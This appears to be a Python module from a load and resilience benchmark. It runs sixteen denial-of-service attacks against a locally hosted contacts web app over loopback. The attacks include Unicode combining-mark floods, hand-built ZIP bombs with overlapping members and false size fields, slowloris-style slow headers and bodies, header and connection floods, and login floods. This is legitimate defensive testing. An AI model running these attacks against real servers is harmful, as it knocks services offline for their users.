"""The attacks of bench/attacks.py: python -m bench.attackers NAME PORT TOKEN ORGANIZATION FILE_PATH CONTACT_UUID.

Each is a few clients that repeat one costly request on loopback, until the bench ends the process or a minute is over.
"""

import http.client
import io
import json
import os
import random
import socket
import struct
import sys
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

from msgspec import Struct

SECONDS_MAX = 60.0
PATIENCE_SECONDS = 30.0
BOUNDARY = "bench"
MARKS = "a" + "\u0301" * 50_000 + "\u0316" * 49_000


class Target(Struct, frozen=True):
    """The instance that is attacked, and what the attacker may use there."""

    port: int
    token: str
    organization: str
    file: str
    contact: str

    @property
    def imports(self) -> str:
        return f"/api/v1/orgs/{self.organization}/imports"


def send(target: Target, method: str, path: str, body: bytes | None = None, kind: str = "application/json") -> bytes:
    """The body of one response."""
    connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=PATIENCE_SECONDS)
    try:
        headers = {"Authorization": f"Bearer {target.token}"} | ({"Content-Type": kind} if body is not None else {})
        connection.request(method, path, body, headers)
        return connection.getresponse().read()
    finally:
        connection.close()


def upload(target: Target, name: str, content: bytes, *, apply: bool = False) -> None:
    """Uploads a file as an import, and applies the import."""
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="upload"; filename="{name}"\r\n\r\n'
    body = head.encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()
    answer = send(target, "POST", target.imports, body, f"multipart/form-data; boundary={BOUNDARY}")
    if apply and b'"id"' in answer:
        send(target, "POST", f"{target.imports}/{json.loads(answer)['id']}/apply", b"{}")
    time.sleep(0.5)


@contextmanager
def connected(target: Target) -> Iterator[socket.socket]:
    with socket.create_connection(("127.0.0.1", target.port), PATIENCE_SECONDS) as connection:
        yield connection


# Texts and archives ---------------------------------------------------------------------------------------------------


def marks_in_notes(target: Target) -> None:
    body = json.dumps({"contact": {"notes": MARKS}}).encode()
    send(target, "PUT", "/api/v1/contacts/1", body)


def marks_in_csv(target: Target) -> None:
    upload(target, "a.csv", f"First Name,Gender\nAnn,{MARKS[:40_000]}\n".encode())


def marks_in_vcard(target: Target) -> None:
    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann {time.monotonic()}\r\nNOTE:{MARKS[:50_000]}\r\nEND:VCARD\r\n"
    upload(target, "a.vcf", card.encode() * 2, apply=True)


def pattern_of_urls(target: Target) -> None:
    value = "." * 9990 + " b"
    send(target, "PUT", "/api/v1/contacts/1", json.dumps({"contact": {"properties": {"site": value}}}).encode())


def _packed(data: bytes, passes: int) -> bytes:
    """A ZIP with following.json, which is packed so many times within one deflate stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces = [packer.compress(data) for _ in range(passes)]
    return b"".join(pieces) + packer.flush()


def _archive(members: list[tuple[str, bytes, int, int]], *, claimed: int | None = None) -> bytes:
    """A ZIP of (name, packed bytes, CRC, unpacked size); claimed: the packed size that its directory states."""
    file, directory = io.BytesIO(), io.BytesIO()
    for name, packed, crc, size in members:
        offset, encoded = file.tell(), name.encode()
        sizes = (crc, claimed or len(packed), size, len(encoded), 0)
        file.write(struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, 0, 8, 0, 0x21, *sizes) + encoded + packed)
        directory.write(
            struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\1\2", 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, offset)
        )
        directory.write(encoded)
    start, table = file.tell(), directory.getvalue()
    count = len(members)
    file.write(table + struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, count, count, len(table), start, 0))
    return file.getvalue()


def zip_of_errors(target: Target) -> None:
    dice = random.Random(1)  # some numbers in between: packed about 40 times, not 1,000
    data = b'{"a":[' + b"".join(b"{}," * 100 + b'{"5":%d},' % dice.randrange(10**8) for _ in range(80_000)) + b"{}]}"
    member = ("followers_and_following/following.json", _packed(data, 1), zlib.crc32(data), len(data))
    upload(target, "errors.zip", _archive([member]))


def zip_of_claims(target: Target) -> None:
    data = b'{"participants":[],"messages":[' + b" " * 31_000_000 + b"]}"
    packed, crc = _packed(data, 1), zlib.crc32(data)
    members = [(f"messages/inbox/o_{number}/message_1.json", packed, crc, len(data)) for number in range(30)]
    upload(target, "claims.zip", _archive(members, claimed=200_000))


def zip_of_overlaps(target: Target) -> None:
    """500 members over one kernel: their directory entries name the same place."""
    data = b'{"participants":[],"messages":[' + b" " * 6_000_000 + b"]}"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("messages/inbox/o_0/message_1.json", data)
        info = archive.infolist()[0]
        for number in range(1, 500):
            twin = zipfile.ZipInfo(f"messages/inbox/o_{number}/message_1.json")
            twin.compress_type, twin.CRC = info.compress_type, info.CRC
            twin.compress_size, twin.file_size, twin.header_offset = info.compress_size, info.file_size, 0
            archive.filelist.append(twin)
    upload(target, "overlaps.zip", file.getvalue())


# Costly requests ------------------------------------------------------------------------------------------------------


def logins(target: Target) -> None:
    body = f"user[email]=who{time.monotonic_ns()}@example.org&user[password]=wrong-password".encode()
    send(target, "POST", "/api/v1/login", body, "application/x-www-form-urlencoded")


def broad_searches(target: Target) -> None:
    words = "+".join("abcdefghijkl")
    send(target, "GET", f"/api/v1/contacts/search?query={words}&order_column=bio&per_page=100")


# Connections ----------------------------------------------------------------------------------------------------------


def endless_header(target: Target) -> None:
    with connected(target) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-A: ")
        for _ in range(1600):
            connection.sendall(b"a" * 65_536)


def many_headers(target: Target) -> None:
    with connected(target) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: a\r\n")
        for _ in range(200):
            connection.sendall(b"".join(b"X-%d: %b\r\n" % (number, b"a" * 1000) for number in range(1000)))


def slow_headers(target: Target) -> None:
    with connected(target) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-A: ")
        for _ in range(30):
            time.sleep(1)
            connection.sendall(b"a")


def slow_bodies(target: Target) -> None:
    with connected(target) as connection:
        connection.sendall(
            b"POST /api/v1/login HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n" + b"a" * 999_000
        )
        for _ in range(30):
            time.sleep(1)
            connection.sendall(b"a")


def connections(target: Target) -> None:
    with connected(target):
        time.sleep(10)


def unsigned_deliveries(target: Target) -> None:
    with connected(target) as connection:
        head = b"POST /instagram/webhook HTTP/1.1\r\nHost: a\r\nContent-Length: 8000000\r\n\r\n"
        connection.sendall(head + b"a" * 7_999_000)
        time.sleep(30)


def unread_downloads(target: Target) -> None:
    path = f"/api/v1/orgs/{target.organization}/contacts/{target.contact}/attachments/{target.file}/file"
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.connect(("127.0.0.1", target.port))
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {target.token}\r\n\r\n".encode())
        time.sleep(30)


# name -> the attack and how many clients
ATTACKS: dict[str, tuple[Callable[[Target], None], int]] = {
    "1 marks in notes": (marks_in_notes, 4),
    "1 marks in CSV": (marks_in_csv, 2),
    "1 marks in vCard": (marks_in_vcard, 2),
    "2 ZIP of errors": (zip_of_errors, 1),
    "2 ZIP of overlaps": (zip_of_overlaps, 1),
    "2 ZIP of claims": (zip_of_claims, 1),
    "3 logins": (logins, 32),
    "4 endless header": (endless_header, 2),
    "4 many headers": (many_headers, 2),
    "4 slow headers": (slow_headers, 20),
    "4 slow bodies": (slow_bodies, 200),
    "4 300 connections": (connections, 300),
    "6 broad searches": (broad_searches, 10),
    "10 url property": (pattern_of_urls, 4),
    "12 unsigned deliveries": (unsigned_deliveries, 100),
    "12 unread downloads": (unread_downloads, 30),
}


def _repeat(attack: Callable[[Target], None], target: Target) -> None:
    while True:
        with suppress(OSError, http.client.HTTPException):
            attack(target)
        time.sleep(0.05)


def main() -> None:
    """Attacks until it is ended, for a minute at most."""
    os.nice(10)  # the attackers of an instance are other machines
    name, port, *rest = sys.argv[1:]
    attack, clients = ATTACKS[name]
    target = Target(int(port), *rest)
    for _ in range(clients):
        threading.Thread(target=_repeat, args=(attack, target), daemon=True).start()
    time.sleep(SECONDS_MAX)


if __name__ == "__main__":
    main()
